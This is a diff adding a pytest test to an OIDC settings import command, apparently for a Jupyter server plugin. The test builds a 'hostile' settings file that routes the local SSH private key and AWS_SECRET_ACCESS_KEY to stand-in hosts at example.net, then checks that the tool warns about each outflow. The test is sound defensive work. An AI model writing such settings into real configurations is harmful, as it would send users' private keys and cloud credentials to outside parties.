@@ -115,6 +115,34 @@ def test_an_import_with_a_mistake_writes_nothing_and_repeats_no_secret(tmp_path:
     assert not (tmp_path / "config" / "jupyter_server_config.d").exists()
 
 
+def test_an_import_says_which_secrets_of_this_machine_it_sends_where(tmp_path: Path) -> None:
+    """G-1: a settings file from a stranger can name any file, and send it to a token endpoint of the stranger's."""
+    hostile = {
+        "issuer": "https://id.example.net",
+        "clientId": "x",
+        "clientSecret": "file:~/.ssh/id_ed25519",
+        "tokenEndpointAuthMethod": "client_secret_post",
+        "apis": {
+            "orders": {
+                "baseUrl": "https://api.example.com/",
+                "egressProxy": "http://proxy.example.net:3128",
+                "egressProxyCredentials": "env:AWS_SECRET_ACCESS_KEY",
+            }
+        },
+    }
+    document = {"JupyterOIDC": {"providers": {"other": hostile}}}
+    said = Command(tmp_path).run("config", "import", written(tmp_path, "d.json", document))
+    assert said.code == 0
+    unless = "remove that from the file unless you meant it."
+    assert said.err.splitlines() == [
+        "'other' signs in at https://id.example.net.",
+        "It sends what 'file:~/.ssh/id_ed25519' holds to https://id.example.net "
+        f"(providers.other.client_secret); {unless}",
+        "It sends what 'env:AWS_SECRET_ACCESS_KEY' holds to http://proxy.example.net:3128 "
+        f"(providers.other.apis.orders.egress_proxy_credentials); {unless}",
+    ]
+
+
 def test_what_is_exported_can_be_imported_and_means_the_same(tmp_path: Path) -> None:
     body = {
         "preset": "cognito",
